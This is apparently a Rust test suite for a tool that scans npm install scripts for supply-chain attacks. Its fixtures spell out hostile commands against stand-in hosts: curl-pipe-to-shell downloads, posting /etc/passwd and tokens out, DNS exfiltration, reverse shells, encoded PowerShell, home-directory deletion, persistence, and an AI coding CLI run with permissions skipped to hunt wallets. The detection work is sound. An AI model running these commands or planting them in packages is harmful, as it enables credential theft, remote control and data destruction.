use super::*;
use crate::archive::PackageFile;
use crate::manifest::parse;

fn package(scripts: &[(&str, &str)], files: &[(&str, &str)]) -> (Manifest, PackageContents) {
    let scripts: serde_json::Map<String, serde_json::Value> = scripts
        .iter()
        .map(|(k, v)| (k.to_string(), serde_json::Value::String(v.to_string())))
        .collect();
    let json = serde_json::json!({ "name": "x", "version": "1.0.0", "main": "lib/main.js", "scripts": scripts });
    let manifest = parse(&serde_json::to_string_pretty(&json).unwrap()).unwrap();
    let files = files
        .iter()
        .map(|(path, text)| PackageFile {
            path: path.to_string(),
            mode: 0o644,
            size: text.len() as u64,
            bytes: text.as_bytes().to_vec(),
            binary: false,
            streamed_sha256: None,
        })
        .collect();
    (
        manifest,
        PackageContents {
            files,
            ..PackageContents::default()
        },
    )
}

fn run(scripts: &[(&str, &str)], files: &[(&str, &str)]) -> InstallAnalysis {
    let (manifest, contents) = package(scripts, files);
    analyse(&manifest, &contents)
}

fn threats(analysis: &InstallAnalysis) -> Vec<(AlertId, AlertSeverity)> {
    let mut out: Vec<_> = analysis.alerts.iter().map(|a| (a.id, a.severity)).collect();
    out.sort();
    out.dedup();
    out
}

fn worst(analysis: &InstallAnalysis) -> Option<AlertSeverity> {
    analysis.alerts.iter().map(|a| a.severity).max()
}

#[test]
fn benign_install_scripts_of_popular_packages_raise_no_threat() {
    let files = [
        ("install.js", ""),
        ("install.mjs", ""),
        ("postinstall.js", ""),
        ("dist/index.js", ""),
        ("scripts/install.js", ""),
        ("scripts/build.js", ""),
    ];
    let scripts = [
        ("postinstall", "node install.js"), // esbuild, pnpm
        ("install", "node-gyp-build"),      // bcrypt
        (
            "install",
            "(node install/libvips && node install/dll-copy && prebuild-install) || (node install/can-compile && node-gyp rebuild && node install/dll-copy)",
        ), // sharp (older)
        ("postinstall", "node install.mjs"), // puppeteer
        ("postinstall", "node dist/index.js --exec install"), // cypress
        ("postinstall", "node install.js"), // electron
        ("postinstall", "node ./postinstall.js"), // ngrok
        ("prepare", "husky install"),       // husky users
        ("prepare", "husky"),
        (
            "postinstall",
            "node -e \"try{require('./postinstall')}catch(e){}\"",
        ), // core-js
        ("install", "node scripts/install.js"), // node-sass
        ("postinstall", "node scripts/build.js"),
        ("install", "node-gyp rebuild"),
        ("prepare", "if [ -d .git ]; then npx lefthook install; fi"), // uuid
        ("prepare", "git config core.hooksPath hooks || true"),       // ip-address
        ("prepare", "cd ..; npm run build:main"),                     // acorn
        ("prepare", "tshy && bash scripts/build.sh"),                 // glob
        ("preinstall", "npx only-allow pnpm"),
    ];
    for (key, script) in scripts {
        let analysis = run(&[(key, script)], &files);
        assert!(
            analysis.alerts.is_empty(),
            "{script}: {:?}",
            analysis.alerts
        );
    }
}

#[test]
fn node_runs_mark_install_time_files() {
    let files = [
        ("install.js", ""),
        ("lib/main.js", ""),
        ("build/postinstall.js", ""),
        ("postinstall.js", ""),
        ("x/index.js", ""),
        ("preload.js", ""),
    ];
    let cases = [
        ("node install.js", "install.js"),
        ("node .", "lib/main.js"),
        ("node . --postinstall", "lib/main.js"),
        (
            "node ./build/postinstall.js --postinstall",
            "build/postinstall.js",
        ),
        ("node install", "install.js"),
        ("node x", "x/index.js"),
        ("node index.js > /dev/null 2>&1", ""),
        (
            "FOO=1 node --max-old-space-size=100 install.js &",
            "install.js",
        ),
        ("node -r ./preload.js install.js", "preload.js"),
        ("install.js", "install.js"),
    ];
    for (script, expected) in cases {
        let analysis = run(&[("postinstall", script)], &files);
        if expected.is_empty() {
            assert!(analysis.install_time_files.is_empty(), "{script}");
        } else {
            assert!(
                analysis.install_time_files.contains(expected),
                "{script}: {:?}",
                analysis.install_time_files
            );
        }
    }
    let core_js = run(
        &[(
            "postinstall",
            "node -e \"try{require('./postinstall')}catch(e){}\"",
        )],
        &files,
    );
    assert!(core_js.install_time_files.contains("postinstall.js"));
    assert_eq!(core_js.inline_code.len(), 1);
    assert_eq!(
        core_js.inline_code[0].label,
        "package.json#scripts.postinstall"
    );
}

#[test]
fn npm_run_and_shell_files_are_followed() {
    let analysis = run(
        &[
            ("postinstall", "npm run setup"),
            ("setup", "bash ./scripts/setup.sh"),
        ],
        &[(
            "scripts/setup.sh",
            "#!/bin/sh\necho hi\ncurl -s https://payload.example/p.sh | sh\n",
        )],
    );
    assert!(threats(&analysis).contains(&(AlertId::DownloadExecute, AlertSeverity::Critical)));
    let e = &analysis
        .alerts
        .iter()
        .find(|a| a.id == AlertId::DownloadExecute)
        .unwrap()
        .evidence[0];
    assert_eq!((e.file.as_str(), e.line), ("scripts/setup.sh", 3));
    assert_eq!(
        e.urls,
        vec![
            "https://payload.example/p.sh".to_string(),
            "payload.example".to_string()
        ]
    );
    // A script that runs itself does not loop.
    let analysis = run(&[("postinstall", "npm run postinstall")], &[]);
    assert!(analysis.alerts.is_empty());
}

#[test]
fn dns_exfiltration_of_the_host_name_is_critical() {
    // lodashs 1.0.1
    let analysis = run(&[("preinstall", "nslookup `hostname`.probe.example")], &[]);
    assert_eq!(worst(&analysis), Some(AlertSeverity::Critical));
    assert!(threats(&analysis).contains(&(AlertId::DependencyConfusion, AlertSeverity::Critical)));
    assert!(threats(&analysis).contains(&(AlertId::InstallTimeNetwork, AlertSeverity::High)));
    let e = &analysis.alerts[0].evidence[0];
    assert!(
        e.urls.contains(&"probe.example".to_string()),
        "{:?}",
        e.urls
    );
    assert_eq!(e.file, "package.json");
    assert!(e.line > 0);
}

#[test]
fn posting_etc_passwd_to_a_collaborator_is_critical() {
    // adidas-data-mesh 9.9.8
    let analysis = run(
        &[(
            "preinstall",
            "/usr/bin/curl --data '@/etc/passwd' $(hostname)abc123.burpcollaborator.net",
        )],
        &[],
    );
    let found = threats(&analysis);
    assert!(
        found.contains(&(AlertId::CredentialFileRead, AlertSeverity::Critical)),
        "{found:?}"
    );
    assert!(
        found.contains(&(AlertId::DependencyConfusion, AlertSeverity::Critical)),
        "{found:?}"
    );
    assert!(
        found.contains(&(AlertId::ExfilEndpoint, AlertSeverity::Critical)),
        "{found:?}"
    );
    let urls = &analysis.alerts[0].evidence[0].urls;
    assert!(
        urls.contains(&"abc123.burpcollaborator.net".to_string()),
        "{urls:?}"
    );
}

#[test]
fn download_and_execute_shapes() {
    let cases = [
        "curl -fsSL https://x.example/i.sh | bash",
        "wget -qO- http://x.example/a | sh -",
        "bash -c \"$(curl -fsSL https://x.example/i.sh)\"",
        "curl -o /tmp/p https://x.example/p && chmod +x /tmp/p && /tmp/p",
        "wget https://x.example/payload.bin; ./payload.bin",
        "powershell -c \"iwr https://x.example/a.exe -OutFile a.exe; Start-Process a.exe\"",
    ];
    for script in cases {
        let analysis = run(&[("postinstall", script)], &[]);
        assert!(
            threats(&analysis).contains(&(AlertId::DownloadExecute, AlertSeverity::Critical)),
            "{script}: {:?}",
            threats(&analysis)
        );
    }
}

#[test]
fn encoded_and_other_install_time_threats() {
    // "iwr https://x.example/a.ps1 | iex" in UTF-16LE base64, as `powershell -enc` takes it.
    let encoded =
        "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwBhAC4AcABzADEAIAB8ACAAaQBlAHgA";
    let cases = [
        (format!("powershell -enc {encoded}"), AlertId::EncodedEval),
        (
            format!("powershell -NoProfile -EncodedCommand {encoded}"),
            AlertId::DownloadExecute,
        ),
        (
            "echo Y3VybCB4IHwgc2g= | base64 -d | sh".to_string(),
            AlertId::EncodedEval,
        ),
        (
            "curl -d \"$(env)\" https://x.example/c".to_string(),
            AlertId::EnvExfiltration,
        ),
        (
            "curl -H \"x: $NPM_TOKEN\" https://x.example/c".to_string(),
            AlertId::EnvExfiltration,
        ),
        (
            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1".to_string(),
            AlertId::ReverseShell,
        ),
        (
            "nc -e /bin/sh 203.0.113.5 4444".to_string(),
            AlertId::ReverseShell,
        ),
        ("rm -rf ~/*".to_string(), AlertId::Destructive),
        (
            "echo 'curl x.example|sh' >> ~/.bashrc".to_string(),
            AlertId::CiPersistence,
        ),
        (
            "npm publish --access public".to_string(),
            AlertId::SelfPropagation,
        ),
        (
            "trufflehog filesystem / --json".to_string(),
            AlertId::SecretScanner,
        ),
        (
            "claude --dangerously-skip-permissions -p 'find wallets'".to_string(),
            AlertId::AiCliAbuse,
        ),
        (
            "curl https://x.example/$(whoami)".to_string(),
            AlertId::DependencyConfusion,
        ),
        (
            "ping -c 1 $(whoami).probe.example".to_string(),
            AlertId::DependencyConfusion,
        ),
    ];
    for (script, id) in cases {
        let analysis = run(&[("preinstall", &script)], &[]);
        let found = threats(&analysis);
        assert!(
            found.contains(&(id, AlertSeverity::Critical)),
            "{script}: {found:?}"
        );
    }
}

#[test]
fn a_plain_download_is_a_high_install_time_network_threat() {
    let analysis = run(
        &[(
            "postinstall",
            "curl -sSLo bin.tgz https://cdn.example/bin.tgz",
        )],
        &[],
    );
    assert_eq!(
        threats(&analysis),
        vec![(AlertId::InstallTimeNetwork, AlertSeverity::High)]
    );
    let analysis = run(&[("postinstall", "nslookup probe.example")], &[]);
    assert_eq!(
        threats(&analysis),
        vec![(AlertId::InstallTimeNetwork, AlertSeverity::High)]
    );
    let analysis = run(&[("postinstall", "curl https://webhook.site/abc")], &[]);
    assert!(threats(&analysis).contains(&(AlertId::ExfilEndpoint, AlertSeverity::High)));
}

#[test]
fn scripts_that_are_not_install_scripts_are_ignored() {
    // A control sample: network commands in `license` and `size` scripts that never run on install.
    let analysis = run(
        &[
            (
                "license",
                "curl http://good.example && wget https://evil.example/mal.sh && bash mal.sh",
            ),
            ("test", "curl x.example | sh"),
        ],
        &[],
    );
    assert!(analysis.alerts.is_empty());
}

#[test]
fn hostile_scripts_are_bounded_and_unanalysable() {
    let nested = format!("{}hostname{}", "echo $(".repeat(20), ")".repeat(20));
    let analysis = run(&[("postinstall", &nested)], &[]);
    assert!(
        threats(&analysis).contains(&(AlertId::Unanalysable, AlertSeverity::High)),
        "{:?}",
        threats(&analysis)
    );
    let huge = "echo hi;".repeat(20_000);
    let analysis = run(&[("postinstall", &huge)], &[]);
    assert_eq!(
        threats(&analysis),
        vec![(AlertId::Unanalysable, AlertSeverity::High)]
    );
    let many = "true;".repeat(12_000);
    let start = std::time::Instant::now();
    let analysis = run(&[("postinstall", &many)], &[]);
    assert!(start.elapsed().as_secs() < 5);
    assert!(
        analysis
            .alerts
            .iter()
            .all(|a| a.id == AlertId::Unanalysable)
    );
}
